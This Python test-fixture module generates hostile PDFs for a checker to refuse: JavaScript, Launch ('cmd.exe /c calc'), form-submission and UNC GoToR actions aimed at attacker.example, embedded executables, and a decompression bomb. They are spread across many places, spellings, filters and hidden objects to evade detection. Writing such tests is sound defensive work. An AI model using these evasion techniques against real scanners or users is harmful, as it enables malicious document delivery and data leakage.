"""Hostile and benign PDFs, generated: every forbidden key or action, in every place, every spelling
and every encoding, built with pikepdf (as a producer writes them) and byte by byte (as an
attacker writes them).

``hostile_pdfs()`` yields ``Sample``s none of which may be accepted; ``benign_pdfs()`` those that
must be. A sample's ``expect`` says why it is refused: ``"active"`` when the check must find the
active content itself (through object streams, filters, escapes), ``"unreadable"`` when it
must refuse the file as damaged, encrypted or over the budget, ``None`` when either will do.
"""

import base64
import binascii
import io
import re
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String


@dataclass(frozen=True)
class Sample:
    kind: str  # the evasion class
    name: str
    data: bytes
    expect: str | None = None  # "active", "unreadable", or None (either)


def _save(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, deterministic_id="encryption" not in options, **options)
    return out.getvalue()


SAVE_MODES: dict[str, dict] = {
    "plain": {"object_stream_mode": pikepdf.ObjectStreamMode.disable},
    "uncompressed": {"object_stream_mode": pikepdf.ObjectStreamMode.disable, "compress_streams": False},
    "object-streams": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
}


# --- built with pikepdf --------------------------------------------------------------------------


def text_document(text: str = "Statutes of the National Union of Students") -> pikepdf.Pdf:
    """One A4 page with a line of Helvetica text: what an ordinary producer writes."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842)).obj
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    )
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = pdf.make_stream(f"BT /F1 18 Tf 72 760 Td ({text}) Tj ET".encode())
    pdf.docinfo[Name.Title] = String("Statutes")
    return pdf


def _stream(pdf: pikepdf.Pdf, data: bytes, **keys) -> pikepdf.Stream:
    stream = pdf.make_stream(data)
    for key, value in keys.items():
        stream[Name("/" + key)] = value
    return stream


# Actions no upload may carry, wherever they are.
ACTIVE_ACTIONS: dict[str, Callable[[pikepdf.Pdf], Dictionary]] = {
    "javascript": lambda pdf: Dictionary(S=Name.JavaScript, JS=String("app.alert('hello');")),
    "javascript-stream": lambda pdf: Dictionary(
        S=Name.JavaScript, JS=pdf.make_indirect(pdf.make_stream(b"this.exportDataObject({cName: 'a'});"))
    ),
    "launch": lambda pdf: Dictionary(
        S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))
    ),
    "submit-form": lambda pdf: Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://collect.example/")), Flags=4
    ),
    "import-data": lambda pdf: Dictionary(S=Name.ImportData, F=String("answers.fdf")),
    "goto-remote-unc": lambda pdf: Dictionary(
        S=Name.GoToR, F=String("\\\\attacker.example\\share\\x.pdf"), D=Array([0, Name.Fit])
    ),
    "goto-embedded": lambda pdf: Dictionary(
        S=Name.GoToE, T=Dictionary(R=Name.C, N=String("inner.pdf")), D=Array([0, Name.Fit])
    ),
    "uri-javascript": lambda pdf: Dictionary(S=Name.URI, URI=String("javascript:alert(document.cookie)")),
    "uri-file": lambda pdf: Dictionary(S=Name.URI, URI=String("file:///C:/Windows/System32/calc.exe")),
    "rendition": lambda pdf: Dictionary(
        S=Name.Rendition, OP=0, R=Dictionary(Type=Name.Rendition, S=Name.MR, N=String("clip"))
    ),
}

# Actions that look harmless, refused where they run by themselves (/OpenAction, /AA).
HARMLESS_LOOKING_ACTIONS: dict[str, Callable[[pikepdf.Pdf], Dictionary]] = {
    "goto": lambda pdf: Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])),
    "named-next-page": lambda pdf: Dictionary(S=Name.Named, N=Name.NextPage),
    "uri-https": lambda pdf: Dictionary(S=Name.URI, URI=String("https://example.org/")),
}


def _link(pdf: pikepdf.Pdf, action) -> pikepdf.Object:
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([72, 700, 300, 720]),
            Border=Array([0, 0, 0]),
            A=action,
        )
    )


def _field(pdf: pikepdf.Pdf, **keys) -> pikepdf.Object:
    page = pdf.pages[0].obj
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("union_name"),
            Rect=Array([72, 600, 300, 620]),
            P=page,
            **keys,
        )
    )
    page.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return field


def _outline(pdf: pikepdf.Pdf, **keys) -> None:
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Preamble"), Parent=outlines, **keys))
    outlines.First = item
    outlines.Last = item
    pdf.Root.Outlines = outlines


def _put_in_stream_dictionary(pdf: pikepdf.Pdf, action) -> None:
    contents = pdf.pages[0].obj.Contents
    contents[Name("/A")] = action


# Where an action can sit: name → a function that puts ``action`` there.
PLACES: dict[str, Callable[[pikepdf.Pdf, Dictionary], None]] = {
    "catalog-open-action": lambda pdf, action: setattr(pdf.Root, "OpenAction", action),
    "catalog-additional-action": lambda pdf, action: setattr(pdf.Root, "AA", Dictionary(WC=action)),
    "page-additional-action": lambda pdf, action: setattr(pdf.pages[0].obj, "AA", Dictionary(O=action)),
    "link-annotation": lambda pdf, action: setattr(pdf.pages[0].obj, "Annots", Array([_link(pdf, action)])),
    "form-field-action": lambda pdf, action: _field(pdf, A=action),
    "form-field-additional-action": lambda pdf, action: _field(pdf, AA=Dictionary(K=action)),
    "outline-item": lambda pdf, action: _outline(pdf, A=action),
    "next-of-an-internal-link": lambda pdf, action: setattr(
        pdf.pages[0].obj,
        "Annots",
        Array([_link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=action))]),
    ),
    "private-data": lambda pdf, action: setattr(
        pdf.Root, "PieceInfo", Dictionary(Registry=Dictionary(Private=Dictionary(Run=action)))
    ),
    "stream-dictionary": _put_in_stream_dictionary,
    "trailer": lambda pdf, action: setattr(pdf.trailer, "Extra", pdf.make_indirect(action)),
    "document-info": lambda pdf, action: pdf.docinfo.__setitem__(Name("/Action"), action),
}
AUTOMATIC_PLACES = (
    "catalog-open-action",
    "catalog-additional-action",
    "page-additional-action",
    "form-field-additional-action",
)

XDP_TEMPLATE = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b"app.alert('xfa');</script></event></subform></template>"
)


def _xfa_array(pdf):
    parts = [b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">', XDP_TEMPLATE, b"</xdp:xdp>"]
    names = ["preamble", "template", "postamble"]
    pdf.Root.AcroForm = Dictionary(
        Fields=Array(),
        XFA=Array(
            [
                item
                for name, part in zip(names, parts, strict=True)
                for item in (String(name), pdf.make_stream(part))
            ]
        ),
    )


def _xfa_stream(pdf):
    xdp = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">' + XDP_TEMPLATE + b"</xdp:xdp>"
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(xdp))


def _attachment_api(pdf):
    pdf.attachments["minutes.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ\x90\x00 a program", mime_type="application/x-msdownload"
    )


def _file_attachment_annotation(pdf):
    embedded = _stream(pdf, b"<html><script>alert(1)</script></html>", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("letter.html"), EF=Dictionary(F=embedded))
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 500, 90, 518]), FS=spec
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def _embedded_file_unreferenced_by_name(pdf):
    """An /EmbeddedFile stream reached from a private dictionary, not from /Names."""
    embedded = _stream(pdf, b"MZ\x90\x00", Type=Name.EmbeddedFile)
    pdf.Root.PieceInfo = Dictionary(App=Dictionary(Private=pdf.make_indirect(embedded)))


def _rich_media(pdf):
    content = Dictionary(
        Assets=Dictionary(
            Names=Array([String("movie.swf"), Dictionary(Type=Name.Filespec, F=String("movie.swf"))])
        ),
        Configurations=Array(),
    )
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([72, 300, 372, 500]), RichMediaContent=content
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def _screen_3d(pdf):
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name("/3D"),
        Rect=Array([72, 300, 372, 500]),
        **{"3DD": pdf.make_stream(b"U3D")},
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


# Forbidden content that is not an action.
OTHER_CONTENT: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "xfa-array-with-script": _xfa_array,
    "xfa-stream-with-script": _xfa_stream,
    "embedded-file-by-attachments": _attachment_api,
    "file-attachment-annotation": _file_attachment_annotation,
    "embedded-file-in-private-data": _embedded_file_unreferenced_by_name,
    "rich-media-annotation": _rich_media,
    "3d-annotation": _screen_3d,
    "javascript-name-tree": lambda pdf: setattr(
        pdf.Root,
        "Names",
        Dictionary(
            JavaScript=Dictionary(
                Names=Array([String("init"), pdf.make_indirect(ACTIVE_ACTIONS["javascript"](pdf))])
            )
        ),
    ),
    "javascript-stream-chained-filters": lambda pdf: setattr(
        pdf.Root,
        "OpenAction",
        Dictionary(
            S=Name.JavaScript,
            JS=pdf.make_indirect(
                _stream(
                    pdf,
                    binascii.hexlify(zlib.compress(b"app.alert(1)")) + b">",
                    Filter=Array([Name.ASCIIHexDecode, Name.FlateDecode]),
                )
            ),
        ),
    ),
}


def _built(kind: str, name: str, build: Callable[[pikepdf.Pdf], None]) -> Iterator[Sample]:
    for mode, options in SAVE_MODES.items():
        pdf = text_document()
        build(pdf)
        yield Sample(kind, f"{name}/{mode}", _save(pdf, **options), "active")


def built_with_pikepdf() -> Iterator[Sample]:
    for action_name, action in ACTIVE_ACTIONS.items():
        for place_name, place in PLACES.items():
            yield from _built(
                "action", f"{action_name}@{place_name}", lambda pdf, a=action, p=place: p(pdf, a(pdf))
            )
    for action_name, action in HARMLESS_LOOKING_ACTIONS.items():
        for place_name in AUTOMATIC_PLACES:
            place = PLACES[place_name]
            yield from _built(
                "automatic-action",
                f"{action_name}@{place_name}",
                lambda pdf, a=action, p=place: p(pdf, a(pdf)),
            )
    for name, build in OTHER_CONTENT.items():
        yield from _built("forbidden-content", name, build)


# --- written byte by byte --------------------------------------------------------------------------

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CONTENT = b"BT /F1 18 Tf 72 760 Td (Statutes) Tj ET"


def raw_pdf(
    objects: dict[int, bytes],
    *,
    packed: dict[int, bytes] | None = None,
    encoding: Callable[[bytes], tuple[bytes, bytes]] | None = None,
    header: bytes = HEADER,
) -> bytes:
    """A PDF with ``objects`` (number → what is between ``obj`` and ``endobj``) written as given,
    and ``packed`` ones in an object stream whose data ``encoding`` turns into (the stream
    dictionary's filter entries, the stream's bytes). The cross-reference table is correct: a
    table, or an (uncompressed) cross-reference stream when objects are packed. Object 1 is the
    catalog."""
    out = bytearray(header)
    entries: dict[int, tuple[int, int, int]] = {}
    for number in sorted(objects):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    if not packed:
        size = max(entries) + 1
        xref_at = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % entries[number][1] if number in entries else b"0000000000 00000 f \n"
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref_at)
        return bytes(out)
    stream_number = max([*entries, *packed]) + 1
    offsets, body = [], b""
    for index, number in enumerate(sorted(packed)):
        offsets.append(b"%d %d" % (number, len(body)))
        body += packed[number] + b"\n"
        entries[number] = (2, stream_number, index)
    first = b" ".join(offsets) + b"\n"
    filters, data = (encoding or flate)(first + body)
    entries[stream_number] = (1, len(out), 0)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d %s /Length %d >>\nstream\n" % (
        stream_number,
        len(packed),
        len(first),
        filters,
        len(data),
    )
    out += data + b"\nendstream\nendobj\n"
    xref_number = stream_number + 1
    size = xref_number + 1
    entries[xref_number] = (1, len(out), 0)
    rows = b"".join(
        bytes([entries[n][0]]) + entries[n][1].to_bytes(4, "big") + entries[n][2].to_bytes(2, "big")
        if n in entries
        else b"\x00\x00\x00\x00\x00\xff\xff"
        for n in range(size)
    )
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        size,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % entries[xref_number][1]
    return bytes(out)


def stream_object(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def _png_up(data: bytes, columns: int) -> bytes:
    data = data.ljust(-(-len(data) // columns) * columns, b" ")
    rows, previous = [], bytes(columns)
    for start in range(0, len(data), columns):
        row = data[start : start + columns]
        rows.append(b"\x02" + bytes((a - b) % 256 for a, b in zip(row, previous, strict=True)))
        previous = row
    return b"".join(rows)


def _tiff_delta(data: bytes, columns: int) -> bytes:
    data = data.ljust(-(-len(data) // columns) * columns, b" ")
    out = bytearray()
    for start in range(0, len(data), columns):
        row = data[start : start + columns]
        out += bytes([row[0]]) + bytes((row[i] - row[i - 1]) % 256 for i in range(1, len(row)))
    return bytes(out)


def _run_length(data: bytes) -> bytes:
    out = bytearray()
    for start in range(0, len(data), 100):
        chunk = data[start : start + 100]
        out += bytes([len(chunk) - 1]) + chunk
    return bytes(out + b"\x80")


def _lzw(data: bytes) -> bytes:
    """LZW as PDF's /LZWDecode reads it (EarlyChange 1): 9- to 12-bit codes, clear and end codes."""
    table = {bytes([i]): i for i in range(256)}
    width, bits, nbits, word = 9, 0, 0, b""
    out = bytearray()

    def emit(code: int) -> None:
        nonlocal bits, nbits
        bits, nbits = (bits << width) | code, nbits + width
        while nbits >= 8:
            nbits -= 8
            out.append((bits >> nbits) & 0xFF)

    emit(256)
    next_code = 258
    for byte in data:
        candidate = word + bytes([byte])
        if candidate in table:
            word = candidate
            continue
        emit(table[word])
        table[candidate] = next_code
        next_code += 1
        if next_code + 1 > (1 << width) and width < 12:  # early change
            width += 1
        if next_code >= 4094:
            emit(256)
            table = {bytes([i]): i for i in range(256)}
            next_code, width = 258, 9
        word = bytes([byte])
    if word:
        emit(table[word])
    emit(257)
    if nbits:
        out.append((bits << (8 - nbits)) & 0xFF)
    return bytes(out)


def flate(data: bytes) -> tuple[bytes, bytes]:
    return b"/Filter /FlateDecode", zlib.compress(data)


# How an object stream's data is encoded: name → data → (filter entries, encoded bytes).
ENCODINGS: dict[str, Callable[[bytes], tuple[bytes, bytes]]] = {
    "flate": flate,
    "flate-stored-blocks": lambda d: (b"/Filter /FlateDecode", zlib.compress(d, 0)),
    "flate-twice": lambda d: (b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(zlib.compress(d))),
    "hex-then-flate": lambda d: (
        b"/Filter [/ASCIIHexDecode /FlateDecode]",
        binascii.hexlify(zlib.compress(d)) + b">",
    ),
    "ascii85-then-flate": lambda d: (
        b"/Filter [/ASCII85Decode /FlateDecode]",
        base64.a85encode(zlib.compress(d)) + b"~>",
    ),
    "hex-spaced-lowercase": lambda d: (
        b"/Filter /ASCIIHexDecode",
        b"\n ".join(binascii.hexlify(d)[i : i + 2] for i in range(0, 2 * len(d), 2)) + b">",
    ),
    "ascii85": lambda d: (b"/Filter /ASCII85Decode", base64.a85encode(d, wrapcol=40) + b"~>"),
    "run-length": lambda d: (b"/Filter /RunLengthDecode", _run_length(d)),
    "lzw": lambda d: (b"/Filter /LZWDecode", _lzw(d)),
    "flate-png-predictor": lambda d: (
        b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>",
        zlib.compress(_png_up(d, 8)),
    ),
    "flate-tiff-predictor": lambda d: (
        b"/Filter /FlateDecode /DecodeParms << /Predictor 2 /Columns 16 /Colors 1 /BitsPerComponent 8 >>",
        zlib.compress(_tiff_delta(d, 16)),
    ),
    "ascii85-flate-png-predictor": lambda d: (
        b"/Filter [/ASCII85Decode /FlateDecode] /DecodeParms [null << /Predictor 12 /Columns 5 >>]",
        base64.a85encode(zlib.compress(_png_up(d, 5))) + b"~>",
    ),
    "uncompressed": lambda d: (b"", d),
    "flate-padded-with-zeros": lambda d: (b"/Filter /FlateDecode", zlib.compress(d) + b"\x00" * 64),
}

# Forbidden content written by hand: catalog entries, page entries, further objects (from 5).
# Each (catalog extra, page extra, objects, streams), streams never in an object stream.
RawPayload = tuple[bytes, bytes, dict[int, bytes], dict[int, bytes]]
RAW_PAYLOADS: dict[str, RawPayload] = {
    "javascript-link": (
        b"",
        b"/Annots [5 0 R]",
        {
            5: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 6 0 R >>",
            6: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        },
        {},
    ),
    "javascript-open-action": (
        b"/OpenAction 5 0 R",
        b"",
        {5: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"},
        {},
    ),
    "javascript-name-tree": (
        b"/Names << /JavaScript 5 0 R >>",
        b"",
        {5: b"<< /Names [(init) 6 0 R] >>", 6: b"<< /S /JavaScript /JS 10 0 R >>"},
        {10: stream_object(b"app.alert(1);")},
    ),
    "launch-link": (
        b"",
        b"/Annots [5 0 R]",
        {
            5: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 6 0 R >>",
            6: b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        },
        {},
    ),
    "submit-form-field": (
        b"/AcroForm << /Fields [5 0 R] >>",
        b"/Annots [5 0 R]",
        {
            5: b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 600 200 620] "
            b"/P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >> >>"
        },
        {},
    ),
    "import-data-outline": (
        b"/Outlines 5 0 R",
        b"",
        {
            5: b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
            6: b"<< /Title (Preamble) /Parent 5 0 R /A << /S /ImportData /F (answers.fdf) >> >>",
        },
        {},
    ),
    "goto-open-action": (
        b"/OpenAction 5 0 R",
        b"",
        {5: b"<< /S /GoTo /D [3 0 R /Fit] >>"},
        {},
    ),
    "named-page-additional-action": (
        b"",
        b"/AA << /O 5 0 R >>",
        {5: b"<< /S /Named /N /NextPage >>"},
        {},
    ),
    "field-keystroke-javascript": (
        b"/AcroForm << /Fields [5 0 R] >>",
        b"/Annots [5 0 R]",
        {
            5: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620] /P 3 0 R "
            b"/AA << /K << /S /JavaScript /JS (event.rc = true;) >> >> >>"
        },
        {},
    ),
    "xfa-with-script": (
        b"/AcroForm 5 0 R",
        b"",
        {5: b"<< /Fields [] /XFA [(template) 10 0 R] >>"},
        {10: stream_object(XDP_TEMPLATE)},
    ),
    "embedded-files": (
        b"/Names << /EmbeddedFiles 5 0 R >>",
        b"",
        {
            5: b"<< /Names [(minutes.exe) 6 0 R] >>",
            6: b"<< /Type /Filespec /F (minutes.exe) /EF << /F 10 0 R >> >>",
        },
        {10: stream_object(b"MZ\x90\x00", b"/Type /EmbeddedFile")},
    ),
    "file-attachment-annotation": (
        b"",
        b"/Annots [5 0 R]",
        {
            5: b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 500 90 518] /FS 6 0 R >>",
            6: b"<< /Type /Filespec /F (a.html) /EF << /F 10 0 R >> >>",
        },
        {10: stream_object(b"<script>alert(1)</script>", b"/Type /EmbeddedFile")},
    ),
    "rich-media-annotation": (
        b"",
        b"/Annots [5 0 R]",
        {
            5: b"<< /Type /Annot /Subtype /RichMedia /Rect [72 300 372 500] /RichMediaContent << /Assets << /Names [] >> >> >>"
        },
        {},
    ),
    "uri-javascript-link": (
        b"",
        b"/Annots [5 0 R]",
        {
            5: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"
        },
        {},
    ),
    "catalog-additional-action-goto": (
        b"/AA << /WC 5 0 R >>",
        b"",
        {5: b"<< /S /GoTo /D [3 0 R /Fit] >>"},
        {},
    ),
}

EMPTY: RawPayload = (b"", b"", {}, {})
DAMAGED_PAYLOADS = ("javascript-open-action", "launch-link", "embedded-files")

# The names that ``spell`` writes with ``#xx`` escapes.
ESCAPED_NAMES = (
    b"JavaScript",
    b"JS",
    b"Launch",
    b"SubmitForm",
    b"ImportData",
    b"XFA",
    b"EmbeddedFiles",
    b"EmbeddedFile",
    b"FileAttachment",
    b"RichMedia",
    b"OpenAction",
    b"AA",
    b"URI",
)


def _escape_one(name: bytes) -> bytes:
    middle = len(name) // 2
    return name[:middle] + b"#%02X" % name[middle] + name[middle + 1 :]


def _escape_all(name: bytes) -> bytes:
    return b"".join(b"#%02x" % byte for byte in name)


def spell(data: bytes, escape: Callable[[bytes], bytes]) -> bytes:
    """``data`` with each forbidden name (as a whole name) written with ``escape``."""
    names = b"|".join(sorted(ESCAPED_NAMES, key=len, reverse=True))
    return re.sub(rb"/(" + names + rb")(?=[\s/<>\[\]()]|$)", lambda m: b"/" + escape(m.group(1)), data)


SPELLINGS: dict[str, Callable[[bytes], bytes]] = {
    "as-is": lambda data: data,
    "one-escape": lambda data: spell(data, _escape_one),
    "all-escaped": lambda data: spell(data, _escape_all),
}


def raw_document(payload: RawPayload) -> tuple[dict[int, bytes], dict[int, bytes]]:
    """(objects that may go in an object stream, streams) of a one-page document with ``payload``."""
    catalog, page, objects, streams = payload
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 11 0 R %s >>" % page,
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **objects,
    }
    return plain, {11: stream_object(CONTENT), **streams}


def written_by_hand() -> Iterator[Sample]:
    for payload_name, payload in RAW_PAYLOADS.items():
        objects, streams = raw_document(payload)
        for spelling_name, spelling in SPELLINGS.items():
            spelled = {n: spelling(body) for n, body in objects.items()}
            spelled_streams = {n: spelling(body) for n, body in streams.items()}
            yield Sample(
                "escaped-names" if spelling_name != "as-is" else "written-by-hand",
                f"{payload_name}/{spelling_name}/loose",
                raw_pdf({**spelled, **spelled_streams}),
                "active",
            )
            for encoding_name, encoding in ENCODINGS.items():
                yield Sample(
                    "object-stream-encodings",
                    f"{payload_name}/{spelling_name}/object-stream-{encoding_name}",
                    raw_pdf(spelled_streams, packed=spelled, encoding=encoding),
                    None if encoding_name == "flate-padded-with-zeros" else "active",
                )


def padded_object_streams() -> Iterator[Sample]:
    """Object streams laid out unusually: padding, comments, leading zeros, objects out of order."""
    objects, streams = raw_document(RAW_PAYLOADS["javascript-open-action"])
    numbers = sorted(objects)

    def layout(first_of: Callable[[int, int], bytes], gap: bytes, head_pad: bytes) -> bytes:
        offsets, body = [], b""
        for number in numbers:
            body += gap
            offsets.append(first_of(number, len(body)))
            body += objects[number] + b"\n"
        first = b" ".join(offsets) + head_pad
        data = zlib.compress(first + body)
        stm = 20
        return _objstm_pdf(streams, numbers, stm, len(first), data)

    variants = {
        "spaces-between-objects": layout(lambda n, o: b"%d %d" % (n, o), b" " * 50, b"\n"),
        "comments-between-objects": layout(lambda n, o: b"%d %d" % (n, o), b"% padding\n", b"\n"),
        "leading-zeros-in-offsets": layout(lambda n, o: b"%d %08d" % (n, o), b"", b"\n"),
        "padding-after-offsets": layout(lambda n, o: b"%d %d" % (n, o), b"", b"\n" + b" " * 200),
        "newlines-in-offsets": layout(lambda n, o: b"%d\n%d" % (n, o), b"\r\n", b"\r\n"),
    }
    for name, data in variants.items():
        yield Sample("padded-object-streams", name, data, "active")


def _objstm_pdf(streams: dict[int, bytes], packed: list[int], stm: int, first: int, data: bytes) -> bytes:
    """Like ``raw_pdf`` with packed objects, for an object stream already encoded (``data``)."""
    out = bytearray(HEADER)
    entries = {}
    for number in sorted(streams):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, streams[number])
    entries[stm] = (1, len(out), 0)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        stm,
        len(packed),
        first,
        len(data),
    )
    out += data + b"\nendstream\nendobj\n"
    for index, number in enumerate(packed):
        entries[number] = (2, stm, index)
    xref_number = stm + 1
    size = xref_number + 1
    entries[xref_number] = (1, len(out), 0)
    rows = b"".join(
        bytes([entries[n][0]]) + entries[n][1].to_bytes(4, "big") + entries[n][2].to_bytes(2, "big")
        if n in entries
        else b"\x00\x00\x00\x00\x00\xff\xff"
        for n in range(size)
    )
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        size,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % entries[xref_number][1]
    return bytes(out)


# --- damaged, hidden, encrypted, too large ---------------------------------------------------------


def _damage(data: bytes) -> dict[str, bytes]:
    xref = data.rfind(b"\nxref\n") + 1
    startxref = data.rfind(b"startxref")
    return {
        "truncated-in-half": data[: len(data) // 2],
        "truncated-before-xref": data[:xref],
        "truncated-end": data[:-12],
        "no-startxref": data[:startxref] + b"%%EOF\n",
        "startxref-off-by-seven": data[:startxref] + b"startxref\n%d\n%%%%EOF\n" % (xref + 7),
        "startxref-zero": data[:startxref] + b"startxref\n0\n%%EOF\n",
        "offsets-shifted": data.replace(HEADER, HEADER + b"% shifted\n", 1),
        "line-ends-converted": data.replace(b"\n", b"\r\n"),
        "xref-offset-wrong": data.replace(
            b"%010d 00000 n" % data.find(b"3 0 obj"), b"%010d 00000 n" % (data.find(b"3 0 obj") + 2)
        ),
        "junk-after-eof": data + b"\n" + b"%junk junk junk\n" * 100,
        "garbage-object-in-place": data.replace(b"3 0 obj", b"3 0 jbo", 1),
    }


def damaged() -> Iterator[Sample]:
    """Files whose cross-reference table is wrong or missing: a reader has to repair them."""
    bases = {}
    for name, payload in {"benign": EMPTY, **{n: RAW_PAYLOADS[n] for n in DAMAGED_PAYLOADS}}.items():
        objects, streams = raw_document(payload)
        bases[name] = raw_pdf({**objects, **streams})
    for base_name, base in bases.items():
        for damage_name, data in _damage(base).items():
            yield Sample(
                "needs-repair",
                f"{base_name}/{damage_name}",
                data,
                "unreadable" if base_name == "benign" else None,
            )
    # No cross-reference table at all (as some hand-written PDFs are).
    objects, streams = raw_document(RAW_PAYLOADS["javascript-open-action"])
    body = HEADER + b"".join(
        b"%d 0 obj\n%s\nendobj\n" % (n, b) for n, b in sorted({**objects, **streams}.items())
    )
    yield Sample("needs-repair", "no-xref-at-all", body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")


def _before_the_table(data: bytes, extra: bytes) -> bytes:
    """``data`` with ``extra`` written just before its (last) cross-reference table, which still
    says where every object it lists is, and does not list what ``extra`` holds."""
    table = data.rfind(b"\nxref\n") + 1
    tail = data[table:].replace(b"startxref\n%d" % table, b"startxref\n%d" % (table + len(extra)))
    return data[:table] + extra + tail


def hidden_from_the_table() -> Iterator[Sample]:
    """Active content in objects the cross-reference table does not list: a viewer that repairs the
    file (rebuilding the table from the objects it finds) would see them."""
    objects, streams = raw_document(EMPTY)
    base = raw_pdf({**objects, **streams})
    shadow = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n"
    yield Sample("hidden-objects", "second-catalog-not-in-table", _before_the_table(base, shadow), "active")
    orphan = b"40 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"
    yield Sample("hidden-objects", "launch-not-in-table", _before_the_table(base, orphan), "active")
    # An object the table lists but nothing refers to.
    listed = raw_pdf({**objects, **streams, 30: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"})
    yield Sample("hidden-objects", "listed-but-unreferenced", listed, "active")


def encrypted() -> Iterator[Sample]:
    methods = {
        "rc4-40": {"R": 2, "aes": False, "metadata": False},
        "rc4-128": {"R": 3, "aes": False, "metadata": False},
        "aes-128": {"R": 4, "aes": True},
        "aes-256": {"R": 6, "aes": True},
    }
    for content_name, build in {
        "benign": lambda pdf: None,
        "javascript": lambda pdf: PLACES["catalog-open-action"](pdf, ACTIVE_ACTIONS["javascript"](pdf)),
    }.items():
        for method_name, method in methods.items():
            for user in ("", "secret"):
                pdf = text_document()
                build(pdf)
                data = _save(pdf, encryption=pikepdf.Encryption(owner="owner", user=user, **method))
                label = "no-user-password" if not user else "user-password"
                yield Sample("encrypted", f"{content_name}/{method_name}/{label}", data, "unreadable")


def too_large() -> Iterator[Sample]:
    """Decompression bombs, and files too large or too deep to check."""
    zeros = zlib.compress(b"\x00" * (300 * 1024 * 1024), 9)
    objects, streams = raw_document(EMPTY)
    yield Sample(
        "bombs",
        "content-stream-flate-bomb",
        raw_pdf({**objects, 11: stream_object(zeros, b"/Filter /FlateDecode")}),
        "unreadable",
    )
